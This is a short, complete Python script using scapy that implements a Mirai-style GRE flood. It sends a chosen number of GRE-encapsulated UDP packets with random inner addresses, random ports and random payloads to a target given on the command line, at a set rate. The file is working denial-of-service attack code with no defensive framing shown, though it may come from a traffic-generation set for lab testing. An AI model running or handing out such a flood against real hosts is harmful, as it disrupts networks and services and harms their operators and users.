#!/usr/bin/python3
"""f6-gre-flood: a Mirai-style "greip" flood (scapy): GRE packets to one target, each carrying an inner IPv4/UDP
packet with random addresses and ports and 512 random bytes, COUNT of them at about RATE per second.
argv: TARGET COUNT RATE"""
import os, random, sys, time

from scapy.all import GRE, IP, UDP, Raw, conf, send

target, count, rate = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
rnd = random.Random(47)
conf.verb = 0


def public():
    while True:
        a = [rnd.randint(1, 223), rnd.randint(0, 255), rnd.randint(0, 255), rnd.randint(1, 254)]
        if a[0] not in (10, 127, 169, 172, 192, 100):
            return ".".join(map(str, a))


s = conf.L3socket()
t0 = time.time()
for i in range(count):
    p = IP(dst=target, id=rnd.getrandbits(16)) / GRE(proto=0x0800) / IP(src=public(), dst=public(), ttl=64) / \
        UDP(sport=rnd.randint(1024, 65535), dport=rnd.randint(1, 65535)) / Raw(os.urandom(512))
    s.send(p)
    lag = t0 + (i + 1) / rate - time.time()
    if lag > 0:
        time.sleep(lag)
s.close()
